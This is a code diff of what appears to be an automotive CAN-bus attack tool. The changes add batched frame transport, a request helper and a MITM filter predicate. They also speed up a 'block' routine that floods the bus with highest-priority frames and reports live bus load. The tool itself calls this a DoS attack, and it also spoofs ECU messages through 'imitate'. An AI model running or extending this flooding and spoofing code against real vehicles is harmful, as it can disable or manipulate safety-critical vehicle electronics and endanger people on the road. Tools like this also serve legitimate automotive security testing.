@@ -8,12 +8,16 @@
 """
 import sys
 from dataclasses import dataclass
+from itertools import repeat
 from os import getcwd, listdir
 from re import match
+from socket import timeout as SocketTimeout
 from shlex import split
 from subprocess import Popen, PIPE
 from sys import maxsize
-from time import sleep 
+from time import monotonic, sleep 
+
+import numpy as np
 
 from __version__ import __version__
 
@@ -25,15 +29,16 @@ USE_PCAN: bool = False
 # from OBDLink import *
 from .PCAN import *
 
-if COMPATIBILITY:
-    from scapy.contrib.cansocket_python_can import CANSocket  # used for non can-utils devices
-else:
-    from scapy.contrib.cansocket_native import CANSocket
-
 from scapy.layers.can import CAN
 from scapy.sendrecv import bridge_and_sniff
 from termcolor import colored
 
+from .bitrates import BITRATES
+from .pcantx import BAUD_RATES
+from .ratecontrol import stuffed_frame_bits
+from .socketcan import CAN_EFF_FLAG, CAN_EFF_MASK, CAN_RTR_FLAG, DEFAULT_BATCH_SIZE, pack_frame
+from .transport import open_transport
+
 # Show extended error messages
 DEBUG: bool = True
 
@@ -51,28 +56,16 @@ HIGHEST_PRIORITY_ID: int = 0x001
 MIN_ID: int = 0x001
 MAX_ID: int = 0x7FF
 DEFAULT_TIMEOUT: int = 0
+DEFAULT_REQUEST_TIMEOUT: float = 1.0
+BLOCK_DATA: bytes = b'bl0ck3d.'
+BLOCK_REPORT_INTERVAL: float = 0.5
 MAX_INT: int = maxsize
 MAX_ITERATIONS: int = 10
 MIN_ITERATIONS: int = 1
 MITM_FILTER = None
 READY: bool = False
 SILENT: bool = False
-VALID_BITRATES: dict = {
-                            "5": PCAN_BAUD_5K,
-                            "10": PCAN_BAUD_10K,
-                            "20": PCAN_BAUD_20K,
-                            "33": PCAN_BAUD_33K,
-                            "47": PCAN_BAUD_47K,
-                            "50": PCAN_BAUD_50K,
-                            "83": PCAN_BAUD_83K,
-                            "95": PCAN_BAUD_95K,
-                            "100": PCAN_BAUD_100K,
-                            "125": PCAN_BAUD_125K,
-                            "250": PCAN_BAUD_250K, 
-                            "500": PCAN_BAUD_500K,
-                            "800": PCAN_BAUD_800K,
-                            "1000": PCAN_BAUD_1M
-                        }
+VALID_BITRATES: dict = BAUD_RATES
 
 # Interfaces
 CAN_INTERFACE: str = "can0"     # Real CAN Bus
@@ -93,61 +86,168 @@ class InvalidCanIdException(Exception):
     pass
 
 
+# Flag bits of scapy's CAN layer
+_SCAPY_RTR_FLAG: int = 0x2
+_SCAPY_EXTENDED_FLAG: int = 0x4
+
+
+def frame_tuple(frame) -> tuple:
+    """(can_id, data) of a scapy CAN packet or a (can_id, data) tuple, can_id with SocketCAN EFF/RTR flags"""
+    if isinstance(frame, CAN):
+        flags = int(frame.flags)
+        can_id = frame.identifier | (CAN_EFF_FLAG if flags & _SCAPY_EXTENDED_FLAG else 0) | (CAN_RTR_FLAG if flags & _SCAPY_RTR_FLAG else 0)
+        return can_id, bytes(frame.data)
+    can_id, data = frame
+    return can_id, bytes(data)
+
+
+def to_packet(frame) -> CAN:
+    """scapy CAN packet of a (can_id, data) tuple (packets are returned unchanged)"""
+    if isinstance(frame, CAN):
+        return frame
+    can_id, data = frame
+    flags = (_SCAPY_EXTENDED_FLAG if can_id & CAN_EFF_FLAG else 0) | (_SCAPY_RTR_FLAG if can_id & CAN_RTR_FLAG else 0)
+    return CAN(identifier=can_id & CAN_EFF_MASK, flags=flags, length=len(data), data=bytes(data))
+
+
 class CANConnection:
     """Object managing CAN connection"""
-    def __init__(self, socket: str, fd: bool = False, pcan: bool = False, baud_rate=BAUDRATE) -> None:
+    def __init__(self, socket: str, fd: bool = False, pcan: bool = False, baud_rate=BAUDRATE, transport: str = None, **options) -> None:
+        """Open socket (interface, PCAN channel or loopback bus name) with a transport backend (see transport.TRANSPORTS).
+        Without transport PCAN is used in pcan mode, python-can in compatibility mode and the native raw socket else."""
         self.ready = False
         self.pcan_mode = pcan
         self.fd_mode = fd
         self.baud_rate = baud_rate
 
-        if self.pcan_mode:
-            pcan = PCANBasic()
+        if transport is None:
+            transport = "pcan" if pcan else "python-can" if COMPATIBILITY else "native"
+        if transport == "pcan" and not str(socket).upper().startswith("PCAN_"):
+            socket = DEFAULT_CHANNEL
 
-            if self.fd_mode:
-                pcan.InitializeFD(BitrateFD=PCAN_BR_CLOCK, channel=DEFAULT_CHANNEL)
-            else:
-                pcan.Initialize(Btr0Btr1=self.baud_rate, channel=DEFAULT_CHANNEL)
-
-            self.connection = pcan
-        else:
-            self.connection = CANSocket(channel=socket)
+        self.transport_name = transport
+        self.transport = open_transport(transport, socket, fd=fd, baud_rate=self.baud_rate, bitrate=self.bitrate(), **options)
+        self.connection = self.transport
 
         self.ready = True
 
     def send(self, pkt) -> bool:
-        """Send CAN message to socket"""
+        """Send CAN message to socket without waiting for a reply"""
         if not self.ready:
             print(f"{MessageColorIndex.ERROR} Connection not ready.")
             return False
 
         try:
-            if self.pcan_mode:
-                if self.fd_mode:
-                    self.connection.WriteFD(Channel=DEFAULT_CHANNEL, MessageBuffer=pkt)
-                else:
-                    self.connection.Write(Channel=DEFAULT_CHANNEL, MessageBuffer=pkt)
-            else:
-                self.connection.sr1(pkt)
+            self.transport.send(*frame_tuple(pkt))
         except Exception as _:
             print(f"{MessageColorIndex.ERROR} Error sending CAN Message")
             return False
 
         return True
 
-    def block(self):
-        """Block CAN Bus by rapidly sending high priority messages"""
-        pkt = CAN(identifier=HIGHEST_PRIORITY_ID, data=b'bl0ck3d.')
+    def send_many(self, frames) -> int:
+        """Send many frames with minimal per frame overhead, returns number of frames sent.
+        frames is a NumPy block of packed frames (socketcan.pack_block) or an iterable of CAN packets or (can_id, data) tuples,
+        which are packed into buffers of DEFAULT_BATCH_SIZE frames and written by the transport in batches."""
+        if not self.ready:
+            print(f"{MessageColorIndex.ERROR} Connection not ready.")
+            return 0
+
+        sent = 0
+
+        try:
+            if isinstance(frames, np.ndarray):
+                return self.transport.send_batch(frames)
+
+            batch = []
+            last = packed = None
+            for frame in frames:
+                # Repeated frames (imitation) are packed only once
+                if frame is not last:
+                    last, packed = frame, pack_frame(*frame_tuple(frame), self.fd_mode)
+                batch.append(packed)
+                if len(batch) == DEFAULT_BATCH_SIZE:
+                    sent += self.transport.send_batch(b"".join(batch))
+                    batch = []
+            if batch:
+                sent += self.transport.send_batch(b"".join(batch))
+        except OSError as e:
+            print(f"{MessageColorIndex.ERROR} Error sending CAN Messages: {e}")
+
+        return sent
+
+    def request(self, pkt, timeout: float = DEFAULT_REQUEST_TIMEOUT, response_id: int = None):
+        """Send CAN message and wait up to timeout seconds for the next received frame (with response_id if given).
+        Returns it as (can_id, data) or None."""
+        if not self.ready:
+            print(f"{MessageColorIndex.ERROR} Connection not ready.")
+            return None
+
+        if not self.send(pkt):
+            return None
+
+        deadline = monotonic() + timeout
+        try:
+            while (remaining := deadline - monotonic()) > 0:
+                self.transport.settimeout(remaining)
+                can_id, data = self.transport.recv()
+                if response_id is None or can_id & (CAN_EFF_FLAG | CAN_EFF_MASK) == response_id:
+                    return can_id, data
+        except SocketTimeout:
+            pass
+        except OSError as e:
+            print(f"{MessageColorIndex.ERROR} Error receiving CAN Message: {e}")
+        finally:
+            self.transport.settimeout(None)
+
+        return None
+
+    def close(self) -> None:
+        self.ready = False
+        self.transport.close()
+
+    def block(self, report_interval: float = BLOCK_REPORT_INTERVAL):
+        """Block CAN Bus by rapidly sending high priority messages.
+        The frame is packed once and written in batches by the transport.
+        Frames/s and the resulting bus load are reported live."""
+        pkt = CAN(identifier=HIGHEST_PRIORITY_ID, data=BLOCK_DATA)
+        can_id, data = frame_tuple(pkt)
+        frame_bits = stuffed_frame_bits(can_id & CAN_EFF_MASK, data, bool(can_id & CAN_EFF_FLAG))
+        bitrate = self.bitrate()
+
+        batch = pack_frame(can_id, data, self.fd_mode) * DEFAULT_BATCH_SIZE
+
+        print(f"{MessageColorIndex.STEP} Blocking with ID {can_id & CAN_EFF_MASK:03X} ({frame_bits} bits per frame at {bitrate // 1000} kbit/s). Press CTRL+C to stop.")
+
         send_counter = 0
+        started = last = monotonic()
+        last_counter = 0
 
         while True:
             try:
-                self.connection.send(pkt)
-                send_counter += 1
+                send_counter += self.transport.send_batch(batch)
+
+                now = monotonic()
+                if now - last >= report_interval:
+                    rate = (send_counter - last_counter) / (now - last)
+                    print(f"\r{MessageColorIndex.INFO} {rate:10.0f} frames/s, bus load {100 * rate * frame_bits / bitrate:5.1f} %", end="", flush=True)
+                    last, last_counter = now, send_counter
             except KeyboardInterrupt:
+                elapsed = monotonic() - started
+                rate = send_counter / elapsed if elapsed > 0 else 0.0
                 print(f"\n\n{MessageColorIndex.INFO} DoS-Attack stopped. (Interrupted by User)")
-                print(f"{MessageColorIndex.INFO} Packets send: {send_counter}\n")
+                print(f"{MessageColorIndex.INFO} Packets send: {send_counter} in {elapsed:.1f} s ({rate:.0f} frames/s, bus load {100 * rate * frame_bits / bitrate:.1f} %)\n")
                 sys.exit(1)
+            except OSError as e:
+                print(f"\n{MessageColorIndex.ERROR} Error sending CAN Message: {e}")
+                sys.exit(1)
+
+    def bitrate(self) -> int:
+        """Bus bitrate in bit/s of the configured baud rate"""
+        for key, value in VALID_BITRATES.items():
+            if value.value == getattr(self.baud_rate, "value", self.baud_rate):
+                return int(key) * 1000
+        return 500000
 
     def imitate(self, target: int, data: str, count: int = DEFAULT_PACKET_COUNT):
         """Data manipulation by imitating an ecu"""
@@ -178,13 +278,9 @@ class CANConnection:
         print(f"{MessageColorIndex.STEP} Crafted CAN Frame:")
         print(pkt.show())
 
-        packet_counter: int = 0
-
-        # Try sending packet
+        # Try sending packet, frames are queued without waiting for replies
         try:
-            for _ in range(count):
-                self.send(pkt)
-                packet_counter += 1
+            packet_counter = self.send_many(repeat(pkt, count))
         except Exception as e:
             print(f"{MessageColorIndex.ERROR} Error sending CAN-Frame: {e}")
             sys.exit(1)
@@ -207,7 +303,7 @@ def has_root_permissions() -> bool:
 
 def is_valid_bitrate(bitrate: int) -> bool:
     """Checks if bitrate is valid"""
-    return bitrate in VALID_BITRATES
+    return bitrate in BITRATES
 
 
 def is_valid_com_port(com_port) -> bool:
@@ -361,6 +457,18 @@ class MITMFilter:
         self.operation = operation
         self.content = content
 
+    def matches(self, can_id: int, data: bytes = None) -> bool:
+        """Filter as predicate(can_id, data), e.g. for asynccan.mitm"""
+        identifier = can_id & CAN_EFF_MASK
+
+        if self.operation == "<":
+            return identifier < self.content
+        if self.operation == ">":
+            return identifier > self.content
+        if self.operation == "=":
+            return identifier == self.content
+        return self.operation == "*"
+
 
 def get_packet(pkt):
     operation = MITM_FILTER.operation